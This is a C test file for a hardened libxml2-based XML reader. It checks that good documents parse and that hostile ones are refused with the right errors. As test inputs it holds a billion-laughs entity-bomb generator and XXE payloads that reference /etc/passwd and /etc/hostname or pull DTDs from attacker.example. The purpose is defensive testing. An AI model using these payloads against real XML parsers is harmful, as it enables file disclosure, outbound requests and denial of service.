/* test-xml-safe.c: protocols/xml/xml-safe.h, the bounded offline XML reader every XML format of
 * protocols/ goes through.
 *
 * A good document (namespaces, CDATA, UTF-16), then what must be refused and with which domain and
 * code: billion laughs, external entities and DTDs (never fetched: a counting entity loader), a DTD
 * hidden from the byte scan by UTF-16, oversize, too many elements, too deep (libxml2's limit and
 * ours), not well-formed and namespace errors, empty input; the caller's domain, codes and message
 * prefix; the relaxation flags; xml_safe_count() and xml_safe_has_dtd() alone; the tree accessors.
 */
#include "protocols/xml/xml-safe.h"
#include <libxml/parser.h>
#include <string.h>

#define NS "urn:example:test"

/* Every external entity or DTD request libxml2 makes: none may happen. */
static guint loader_calls;

static xmlParserInputPtr counting_loader(const char *url, const char *id, xmlParserCtxtPtr ctxt)
{
    (void)url;
    (void)id;
    (void)ctxt;
    loader_calls++;
    return NULL;
}

static const XmlSafeLimits default_limits = {.max_size = 4096, .max_elements = 100};

static xmlDoc *read_ok(const char *text, size_t len, const XmlSafeLimits *lim)
{
    GError *error = NULL;
    xmlDoc *doc = xml_safe_read(text, len, lim, &error);
    g_assert_no_error(error);
    g_assert_nonnull(doc);
    g_assert_nonnull(xmlDocGetRootElement(doc));
    return doc;
}

/* Refused in DOMAIN/CODE (XML_SAFE_ERROR when LIM has no domain), the message holding NEEDLE. */
static void read_fails(const void *text, size_t len, const XmlSafeLimits *lim, int code, const char *needle)
{
    GError *error = NULL;
    xmlDoc *doc = xml_safe_read(text, len, lim, &error);
    g_assert_null(doc);
    GQuark domain = lim->domain ? lim->domain : XML_SAFE_ERROR;
    g_assert_error(error, domain, code);
    if (needle && !strstr(error->message, needle))
        g_error("error '%s' does not mention '%s'", error->message, needle);
    g_error_free(error);
}

/* TEXT as UTF-16LE with a byte order mark. */
static GByteArray *utf16le(const char *text)
{
    glong n = 0;
    g_autofree gunichar2 *u16 = g_utf8_to_utf16(text, -1, NULL, &n, NULL);
    GByteArray *out = g_byte_array_new();
    g_byte_array_append(out, (const guint8 *)"\xff\xfe", 2);
    for (glong i = 0; i < n; i++) {
        guint8 le[2] = {(guint8)(u16[i] & 0xff), (guint8)(u16[i] >> 8)};
        g_byte_array_append(out, le, 2);
    }
    return out;
}

static void test_good(void)
{
    static const char text[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                               "<r xmlns=\"" NS "\" xmlns:x=\"urn:example:x\" a=\"1\">"
                               "<x:c>one &amp; two</x:c><d><![CDATA[<not-an-element/>]]></d></r>";
    xmlDoc *doc = read_ok(text, strlen(text), &default_limits);
    xmlNode *root = xmlDocGetRootElement(doc);
    g_assert_cmpstr((const char *)root->name, ==, "r");
    g_assert_cmpstr((const char *)root->ns->href, ==, NS);
    xmlNode *c = xmlFirstElementChild(root);
    g_assert_cmpstr((const char *)c->ns->href, ==, "urn:example:x");
    xmlChar *content = xmlNodeGetContent(c);
    g_assert_cmpstr((const char *)content, ==, "one & two");
    xmlFree(content);
    /* CDATA is merged into a text node by default... */
    xmlNode *d = xmlNextElementSibling(c);
    g_assert_cmpint(d->children->type, ==, XML_TEXT_NODE);
    g_assert_cmpstr((const char *)d->children->content, ==, "<not-an-element/>");
    xmlFreeDoc(doc);
    /* ...and kept as a CDATA node on request. */
    XmlSafeLimits keep = default_limits;
    keep.flags = XML_SAFE_KEEP_CDATA;
    doc = read_ok(text, strlen(text), &keep);
    d = xmlNextElementSibling(xmlFirstElementChild(xmlDocGetRootElement(doc)));
    g_assert_cmpint(d->children->type, ==, XML_CDATA_SECTION_NODE);
    xmlFreeDoc(doc);

    /* UTF-16 without a DTD is fine: the refusal below is about the DTD, not the encoding. */
    GByteArray *u = utf16le("<?xml version=\"1.0\" encoding=\"UTF-16\"?><r xmlns=\"" NS "\">\u00e9</r>");
    doc = read_ok((const char *)u->data, u->len, &default_limits);
    content = xmlNodeGetContent(xmlDocGetRootElement(doc));
    g_assert_cmpstr((const char *)content, ==, "\u00e9");
    xmlFree(content);
    xmlFreeDoc(doc);
    g_byte_array_free(u, TRUE);
}

static GString *billion_laughs(void)
{
    GString *bomb = g_string_new("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n<!ENTITY lol \"lol\">\n");
    for (int i = 1; i <= 9; i++) {
        g_string_append_printf(bomb, "<!ENTITY lol%d \"", i);
        for (int k = 0; k < 10; k++)
            g_string_append_printf(bomb, "&lol%s;", i == 1 ? "" : (char[]){(char)('0' + i - 1), 0});
        g_string_append(bomb, "\">\n");
    }
    g_string_append(bomb, "]>\n<r xmlns=\"" NS "\">&lol9;</r>");
    return bomb;
}

static void test_billion_laughs(void)
{
    GString *bomb = billion_laughs();
    gint64 start = g_get_monotonic_time();
    read_fails(bomb->str, bomb->len, &default_limits, XML_SAFE_ERROR_XML, "DTD");
    /* Without the byte scan, the tree check refuses it (libxml2 never substitutes entities here). */
    XmlSafeLimits tree_only = default_limits;
    tree_only.flags = XML_SAFE_NO_BYTE_SCAN;
    read_fails(bomb->str, bomb->len, &tree_only, XML_SAFE_ERROR_XML, NULL);
    g_assert_cmpint(g_get_monotonic_time() - start, <, G_USEC_PER_SEC);
    g_string_free(bomb, TRUE);
}

static void test_external_entity(void)
{
    static const char *const hostile[] = {
        "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
        "<r xmlns=\"" NS "\">&x;</r>",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]><r xmlns=\"" NS "\"/>",
        "<!DOCTYPE r SYSTEM \"http://attacker.example/r.dtd\"><r xmlns=\"" NS "\"/>",
        "<!DOCTYPE r PUBLIC \"-//X//DTD R//EN\" \"file:///etc/hostname\"><r xmlns=\"" NS "\" a=\"&x;\"/>",
    };
    xmlExternalEntityLoader saved = xmlGetExternalEntityLoader();
    xmlSetExternalEntityLoader(counting_loader);
    loader_calls = 0;
    XmlSafeLimits tree_only = default_limits;
    tree_only.flags = XML_SAFE_NO_BYTE_SCAN | XML_SAFE_ALLOW_NS_ERRORS | XML_SAFE_KEEP_CDATA;
    for (guint i = 0; i < G_N_ELEMENTS(hostile); i++) {
        read_fails(hostile[i], strlen(hostile[i]), &default_limits, XML_SAFE_ERROR_XML, "DTD");
        read_fails(hostile[i], strlen(hostile[i]), &tree_only, XML_SAFE_ERROR_XML, NULL);
    }
    g_assert_cmpuint(loader_calls, ==, 0);
    xmlSetExternalEntityLoader(saved);

    /* An undeclared entity is not well-formed (and so never looked up). */
    static const char undeclared[] = "<r xmlns=\"" NS "\">&x;</r>";
    read_fails(undeclared, strlen(undeclared), &default_limits, XML_SAFE_ERROR_XML, "not well-formed");
}

static void test_utf16_dtd(void)
{
    /* "<!DOCTYPE" in UTF-16 hides from the byte scan; the parsed tree still shows the internal subset,
     * and the document is otherwise well-formed, so only that check can refuse it. */
    GByteArray *u = utf16le("<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                            "<!DOCTYPE r [<!ENTITY a \"lol\">]><r xmlns=\"" NS "\">&a;</r>");
    g_assert_false(xml_safe_has_dtd(u->data, u->len));
    read_fails(u->data, u->len, &default_limits, XML_SAFE_ERROR_XML, "DTD");
    g_byte_array_free(u, TRUE);
}

static void test_oversize(void)
{
    XmlSafeLimits lim = {.max_size = 64};
    GString *doc = g_string_new("<r xmlns=\"" NS "\"/>");
    while (doc->len < lim.max_size)
        g_string_append_c(doc, ' '); /* trailing white space is allowed after the root (XML 1.0 §2.8) */
    xmlFreeDoc(read_ok(doc->str, doc->len, &lim));
    g_string_append_c(doc, ' ');
    read_fails(doc->str, doc->len, &lim, XML_SAFE_ERROR_TOO_LARGE, "65 bytes");
    /* The size is checked before anything else: even a DTD counts as too large first. */
    GString *bomb = billion_laughs();
    read_fails(bomb->str, bomb->len, &lim, XML_SAFE_ERROR_TOO_LARGE, NULL);
    g_string_free(bomb, TRUE);
    g_string_free(doc, TRUE);
}

static GString *nested(guint levels)
{
    GString *s = g_string_new(NULL);
    for (guint i = 0; i < levels; i++)
        g_string_append(s, i == 0 ? "<d xmlns=\"" NS "\">" : "<d>");
    for (guint i = 0; i < levels; i++)
        g_string_append(s, "</d>");
    return s;
}

static void test_too_deep(void)
{
    XmlSafeLimits lim = {.max_size = 1024 * 1024};
    /* libxml2's own limit (no XML_PARSE_HUGE): refused as not well-formed, without recursion of ours. */
    GString *deep = nested(5000);
    read_fails(deep->str, deep->len, &lim, XML_SAFE_ERROR_XML, "not well-formed");
    g_string_free(deep, TRUE);
    /* A caller's tighter limit: max_depth levels pass, one more is too large. */
    lim.max_depth = 8;
    GString *ok = nested(8), *over = nested(9);
    xmlFreeDoc(read_ok(ok->str, ok->len, &lim));
    read_fails(over->str, over->len, &lim, XML_SAFE_ERROR_TOO_LARGE, "deeper than 8");
    g_string_free(ok, TRUE);
    g_string_free(over, TRUE);
}

static void test_too_many_elements(void)
{
    XmlSafeLimits lim = {.max_size = 4096, .max_elements = 10};
    GString *s = g_string_new("<r xmlns=\"" NS "\">");
    for (int i = 0; i < 9; i++)
        g_string_append(s, "<a/>");
    g_string_append(s, "</r>");
    xmlFreeDoc(read_ok(s->str, s->len, &lim)); /* 10 with the root */
    g_string_insert(s, s->len - 4, "<a/>");
    read_fails(s->str, s->len, &lim, XML_SAFE_ERROR_TOO_LARGE, "more than 10 elements");
    lim.max_elements = 0; /* not counted */
    xmlFreeDoc(read_ok(s->str, s->len, &lim));
    g_string_free(s, TRUE);
}

static void test_malformed(void)
{
    static const char *const bad[] = {
        "not xml at all",
        "<r xmlns=\"" NS "\"><a></r>",
        "<r xmlns=\"" NS "\"/><r/>",
        "<?xml version=\"1.0\"?>",
        "<r xmlns=\"" NS "\" a=\"1\" a=\"2\"/>",
        "<r xmlns=\"" NS "\">\x01</r>",
        "<r xmlns=\"" NS "\">\xff\xfe</r>",
    };
    for (guint i = 0; i < G_N_ELEMENTS(bad); i++)
        read_fails(bad[i], strlen(bad[i]), &default_limits, XML_SAFE_ERROR_XML, NULL);
    static const char nul[] = "<r xmlns=\"" NS "\">\0</r>";
    read_fails(nul, sizeof nul - 1, &default_limits, XML_SAFE_ERROR_XML, NULL);
    read_fails(NULL, 0, &default_limits, XML_SAFE_ERROR_XML, "empty");
    read_fails(NULL, 12, &default_limits, XML_SAFE_ERROR_XML, "empty");
    read_fails("", 0, &default_limits, XML_SAFE_ERROR_XML, "empty");

    /* Namespaces in XML §5: an unbound prefix is refused unless the caller relaxes it. */
    static const char unbound[] = "<r xmlns=\"" NS "\"><p:a/></r>";
    read_fails(unbound, strlen(unbound), &default_limits, XML_SAFE_ERROR_XML, "not well-formed");
    XmlSafeLimits lax = default_limits;
    lax.flags = XML_SAFE_ALLOW_NS_ERRORS;
    xmlFreeDoc(read_ok(unbound, strlen(unbound), &lax));
}

static void test_caller_domain(void)
{
    const XmlSafeLimits lim = {
        .max_size = 64,
        .max_elements = 2,
        .domain = g_quark_from_static_string("test-caller-error"),
        .code_xml = 7,
        .code_large = 9,
        .what = "CALLER",
    };
    static const char dtd[] = "<!DOCTYPE r><r/>", many[] = "<r><a/><a/></r>", broken[] = "<r>";
    read_fails(dtd, strlen(dtd), &lim, 7, "CALLER: document type declarations");
    read_fails(broken, strlen(broken), &lim, 7, "CALLER: not well-formed");
    read_fails(many, strlen(many), &lim, 9, "CALLER: more than 2 elements");
    GString *big = g_string_new("<r>");
    while (big->len <= lim.max_size)
        g_string_append(big, "     ");
    g_string_append(big, "</r>");
    read_fails(big->str, big->len, &lim, 9, "CALLER: document of");
    g_string_free(big, TRUE);
    read_fails(NULL, 0, &lim, 7, "CALLER: empty");
}

static void test_byte_scan(void)
{
    g_assert_true(xml_safe_has_dtd("x<!DOCTYPE", 10));
    g_assert_true(xml_safe_has_dtd("<!ENTITY", 8));
    g_assert_false(xml_safe_has_dtd("<!ENTITY", 7)); /* the bound is LEN, not the NUL */
    g_assert_false(xml_safe_has_dtd("<!doctype", 9));
    g_assert_false(xml_safe_has_dtd(NULL, 5));
    /* The scan does not parse: the mark in a comment refuses a strict read, not a tree-only one. */
    static const char comment[] = "<r xmlns=\"" NS "\"><!-- <!ENTITY is not declared here --></r>";
    read_fails(comment, strlen(comment), &default_limits, XML_SAFE_ERROR_XML, "DTD");
    XmlSafeLimits tree_only = default_limits;
    tree_only.flags = XML_SAFE_NO_BYTE_SCAN;
    xmlFreeDoc(read_ok(comment, strlen(comment), &tree_only));
}

static void test_count(void)
{
    static const char text[] = "<r xmlns=\"" NS "\"><a><b/><b><c/></b></a><a/>text<!-- c --></r>";
    xmlDoc *doc = read_ok(text, strlen(text), &default_limits);
    xmlNode *root = xmlDocGetRootElement(doc);
    XmlSafeCount n;
    xml_safe_count(root, 100, &n);
    g_assert_cmpuint(n.elements, ==, 6);
    g_assert_cmpuint(n.depth, ==, 4);
    g_assert_false(n.unbound_prefix);
    xml_safe_count(root, 2, &n); /* stops once over the limit */
    g_assert_cmpuint(n.elements, ==, 3);
    xml_safe_count(xmlFirstElementChild(root), 100, &n); /* a subtree: its siblings are not counted */
    g_assert_cmpuint(n.elements, ==, 4);
    g_assert_cmpuint(n.depth, ==, 3);
    xmlFreeDoc(doc);
    /* Depth is the deepest path, not a running total over siblings that each nest. */
    static const char wide[] = "<r xmlns=\"" NS "\"><a><b/></a><a><b/></a><a><b/></a></r>";
    doc = read_ok(wide, strlen(wide), &default_limits);
    xml_safe_count(xmlDocGetRootElement(doc), 100, &n);
    g_assert_cmpuint(n.elements, ==, 7);
    g_assert_cmpuint(n.depth, ==, 3);
    xmlFreeDoc(doc);
    XmlSafeLimits three = default_limits;
    three.max_depth = 3;
    xmlFreeDoc(read_ok(wide, strlen(wide), &three));

    /* What the chunk parser leaves for an unbound prefix: the prefix kept in the name, no namespace. */
    XmlSafeLimits lax = default_limits;
    lax.flags = XML_SAFE_ALLOW_NS_ERRORS;
    static const char unbound[] = "<r xmlns=\"" NS "\"><a p:x=\"1\"/></r>";
    doc = read_ok(unbound, strlen(unbound), &lax);
    xml_safe_count(xmlDocGetRootElement(doc), 100, &n);
    g_assert_true(n.unbound_prefix);
    g_assert_cmpuint(n.elements, ==, 2);
    xmlFreeDoc(doc);
}

static void test_accessors(void)
{
    static const char text[] = "<r xmlns=\"" NS "\" xmlns:o=\"urn:example:o\" a=\" v \" o:b=\"w\">"
                               "  head <x>inner</x> tail  <o:y/></r>";
    XmlSafeLimits keep = default_limits;
    keep.flags = XML_SAFE_KEEP_CDATA;
    xmlDoc *doc = read_ok(text, strlen(text), &keep);
    xmlNode *root = xmlDocGetRootElement(doc), *x = xmlFirstElementChild(root), *y = xmlNextElementSibling(x);
    g_assert_true(xml_safe_is(root, NS, "r"));
    g_assert_true(xml_safe_is(root, NS, NULL));
    g_assert_false(xml_safe_is(root, NS, "x"));
    g_assert_false(xml_safe_is(y, NS, NULL));
    g_assert_true(xml_safe_is(y, "urn:example:o", "y"));
    g_assert_false(xml_safe_is(NULL, NS, NULL));
    g_assert_false(xml_safe_is(root->children, NS, NULL)); /* a text node */
    g_autofree char *a = xml_safe_attr(root, "a"), *b = xml_safe_attr(root, "b"), *none = xml_safe_attr(root, "z");
    g_assert_cmpstr(a, ==, " v "); /* attribute values are not trimmed */
    g_assert_null(b);              /* o:b is in a namespace */
    g_assert_null(none);
    g_autofree char *all = xml_safe_text(root), *own = xml_safe_own_text(root), *empty = xml_safe_own_text(y);
    g_assert_cmpstr(all, ==, "head inner tail");
    g_assert_cmpstr(own, ==, "head  tail");
    g_assert_cmpstr(empty, ==, "");
    xmlFreeDoc(doc);
    /* CDATA counts as own text whether kept as CDATA nodes or merged. */
    static const char cdata[] = "<r xmlns=\"" NS "\"> a<![CDATA[<b>]]>c </r>";
    for (int merge = 0; merge < 2; merge++) {
        doc = read_ok(cdata, strlen(cdata), merge ? &default_limits : &keep);
        g_autofree char *t = xml_safe_own_text(xmlDocGetRootElement(doc));
        g_assert_cmpstr(t, ==, "a<b>c");
        xmlFreeDoc(doc);
    }
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/xml-safe/good", test_good);
    g_test_add_func("/xml-safe/billion-laughs", test_billion_laughs);
    g_test_add_func("/xml-safe/external-entity", test_external_entity);
    g_test_add_func("/xml-safe/utf16-dtd", test_utf16_dtd);
    g_test_add_func("/xml-safe/oversize", test_oversize);
    g_test_add_func("/xml-safe/too-deep", test_too_deep);
    g_test_add_func("/xml-safe/too-many-elements", test_too_many_elements);
    g_test_add_func("/xml-safe/malformed", test_malformed);
    g_test_add_func("/xml-safe/caller-domain", test_caller_domain);
    g_test_add_func("/xml-safe/byte-scan", test_byte_scan);
    g_test_add_func("/xml-safe/count", test_count);
    g_test_add_func("/xml-safe/accessors", test_accessors);
    return g_test_run();
}
